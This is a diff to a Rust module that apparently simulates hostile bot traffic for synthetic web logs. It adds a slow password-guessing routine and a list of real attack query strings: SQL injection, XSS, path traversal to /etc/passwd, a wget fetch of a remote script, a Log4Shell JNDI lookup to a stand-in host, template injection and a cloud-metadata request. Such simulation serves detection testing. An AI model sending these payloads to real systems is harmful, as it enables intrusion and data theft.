@@ -1,5 +1,6 @@
 //! Bots that do harm: scanners, credential stuffers, floods, spammers.
 
+use super::super::purpose::Purpose;
 use super::super::visit::{Ask, From, Visit};
 
 const PROBES: [&str; 36] = [
@@ -112,6 +113,52 @@ pub(super) fn spam_forms(v: &mut Visit<'_>) {
         let from = if says_form { From::Said(site.url(&path)) } else { From::Direct };
         let status = *v.dice.pick(&[302, 302, 200, 403, 422]);
         v.send(Ask::get("/comments", from).by("POST").answered(status).leading_to(path));
+        v.think(pause_s, 0.5);
+    }
+}
+
+/// Passwords tried so slowly that no limit minds, where a wrong one is answered 200 or 302: the form once more.
+pub(super) fn guess_slowly(v: &mut Visit<'_>) {
+    let form = *v.dice.pick(&["/login", "/account/login", "/signin"]);
+    let pause_s = v.dice.real(15.0, 90.0);
+    let status = *v.dice.pick(&[200, 302]);
+    let says = From::Said(v.site.url(form));
+    for _ in 0..v.dice.between(25, 60) {
+        if v.dice.chance(0.3) {
+            v.send(Ask::get(form, says.clone()));
+            v.wait(0.5);
+        }
+        let sent = Ask::get(form, says.clone()).by("POST").to(Purpose::Form).answered(status);
+        v.send(sent.leading_to(if status == 302 { form } else { "" }));
+        v.think(pause_s, 0.3);
+    }
+}
+
+const INJECTIONS: [&str; 10] = [
+    "id=1%27%20OR%20%271%27=%271",
+    "id=1+UNION+SELECT+username,password+FROM+users--",
+    "q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "file=../../../../etc/passwd",
+    "page=php://filter/convert.base64-encode/resource=config",
+    "cmd=;wget+http://198.51.100.7/x.sh",
+    "name=${jndi:ldap://203.0.113.9/a}",
+    "q={{7*7}}",
+    "url=http://169.254.169.254/latest/meta-data/",
+    "id=1;WAITFOR+DELAY+%270:0:5%27",
+];
+
+/// Attacks in the query of pages that are there.
+pub(super) fn inject(v: &mut Visit<'_>) {
+    let pause_s = v.dice.log_normal(1.5, 1.0);
+    let start = v.dice.below(INJECTIONS.len());
+    for next in 0..v.dice.geometric(12.0, 100) {
+        let page = v.dice.below(v.site.pages.len());
+        let path = v.site.pages[page].path.clone();
+        let joint = if path.contains('?') { '&' } else { '?' };
+        let target = format!("{path}{joint}{}", INJECTIONS[(start + next) % INJECTIONS.len()]);
+        let status = *v.dice.pick(&[200, 200, 200, 403, 500]);
+        let from = if v.dice.chance(0.3) { From::Said(v.site.url(&path)) } else { From::Direct };
+        v.send(Ask::get(target, from).answered(status));
         v.think(pause_s, 0.5);
     }
 }
